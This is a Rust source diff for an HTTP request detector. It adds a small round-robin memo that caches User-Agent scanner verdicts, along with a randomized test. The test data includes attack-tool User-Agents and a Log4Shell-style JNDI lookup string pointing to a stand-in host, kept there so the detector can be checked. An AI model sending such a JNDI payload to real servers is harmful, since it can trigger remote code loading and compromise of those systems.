@@ -175,9 +175,9 @@ pub struct Detector {
     /// [`MEMO_MAX`]).
     shapes: HashMap<String, String, Seeded>,
     shape_key: String,
-    /// The last User-Agent judged for scanner names and the verdict (a
-    /// client sends the same one on every request).
-    last_agent: (String, Option<&'static str>),
+    /// Recent User-Agents judged for scanner names and the verdicts (each
+    /// client sends the same one on every request; a few clients take turns).
+    agents: AgentMemo,
 }
 
 /// The memo's hasher (see [`Detector::memo`]).
@@ -255,6 +255,41 @@ fn scanner_agent(ua: &str) -> Option<&'static str> {
     SCANNER_AGENTS.get(first).copied()
 }
 
+/// Most User-Agents an [`AgentMemo`] holds.
+const AGENT_MEMO: usize = 8;
+
+/// [`scanner_agent`] of the last [`AGENT_MEMO`] distinct User-Agents (up
+/// to [`MEMO_VALUE_MAX`] bytes each), the oldest replaced first. A lookup
+/// compares at most [`AGENT_MEMO`] strings: far cheaper than the
+/// automaton's walk over the agent, and the verdict is the function's.
+#[derive(Default)]
+struct AgentMemo {
+    seen: Vec<(String, Option<&'static str>)>,
+    /// The entry replaced next once `seen` is full.
+    next: usize,
+}
+
+impl AgentMemo {
+    fn scanner(&mut self, ua: &str) -> Option<&'static str> {
+        if let Some((_, v)) = self.seen.iter().find(|(a, _)| a == ua) {
+            return *v;
+        }
+        let v = scanner_agent(ua);
+        if ua.len() > MEMO_VALUE_MAX {
+            return v;
+        }
+        if self.seen.len() < AGENT_MEMO {
+            self.seen.push((ua.to_string(), v));
+        } else if let Some(slot) = self.seen.get_mut(self.next) {
+            slot.0.clear();
+            slot.0.push_str(ua);
+            slot.1 = v;
+            self.next = (self.next + 1) % AGENT_MEMO;
+        }
+        v
+    }
+}
+
 /// Paths only scanners and attackers ask for (lower case, prefix of the path).
 const SCANNER_PATHS: &[&str] = &[
     "/.git/",
@@ -314,7 +349,7 @@ impl Detector {
             templates: HashMap::default(),
             shapes: HashMap::default(),
             shape_key: String::new(),
-            last_agent: (String::new(), None),
+            agents: AgentMemo::default(),
         }
     }
 
@@ -540,17 +575,7 @@ impl Detector {
         }
         // Scanners by User-Agent and by path.
         let agent = header(&req.headers, "user-agent").unwrap_or("");
-        // (`("", None)` at first: what `scanner_agent("")` says.)
-        let scanner = if agent.len() > MEMO_VALUE_MAX {
-            scanner_agent(agent)
-        } else {
-            if self.last_agent.0 != agent {
-                self.last_agent.1 = scanner_agent(agent);
-                self.last_agent.0.clear();
-                self.last_agent.0.push_str(agent);
-            }
-            self.last_agent.1
-        };
+        let scanner = self.agents.scanner(agent);
         if let Some(s) = scanner {
             hits.push(Hit {
                 class: "scanner".into(),
@@ -1105,7 +1130,48 @@ mod tests;
 
 #[cfg(test)]
 mod template_memo {
-    use super::{endpoint_template, DetectConfig, Detector};
+    use super::{
+        endpoint_template, scanner_agent, AgentMemo, DetectConfig, Detector, AGENT_MEMO,
+        MEMO_VALUE_MAX,
+    };
+
+    /// The User-Agent memo gives [`scanner_agent`]'s verdict whatever the
+    /// order of agents, with more distinct agents than it holds (so entries
+    /// are replaced), agents too long to keep, and the empty agent.
+    #[test]
+    fn agent_memo_gives_what_scanner_agent_gives() {
+        let long = format!("{}sqlmap", "x".repeat(MEMO_VALUE_MAX));
+        let agents = [
+            "",
+            "curl/8.8.0",
+            "okhttp/4.12.0",
+            "python-requests/2.32.3",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            "sqlmap/1.8#stable",
+            "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
+            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+            "OWASP ZAP/2.14",
+            "masscan/1.3 nikto",
+            "Wget/1.21",
+            "Go-http-client/1.1",
+            "${jndi:ldap://203.0.113.9:1389/Exploit}",
+            long.as_str(),
+        ];
+        let mut memo = AgentMemo::default();
+        let mut x = 0x9e37_79b9_7f4a_7c15u64;
+        for _ in 0..5000 {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            // Runs of the same agent, as clients send them.
+            let a = agents[(x % agents.len() as u64) as usize];
+            for _ in 0..(x >> 60) % 3 + 1 {
+                assert_eq!(memo.scanner(a), scanner_agent(a), "{a}");
+            }
+            assert!(memo.seen.len() <= AGENT_MEMO);
+        }
+        assert_eq!(memo.seen.len(), AGENT_MEMO);
+    }
 
     /// The remembered template of every path, asked twice in a row and in
     /// mixed order (so shapes meet other paths' entries), is
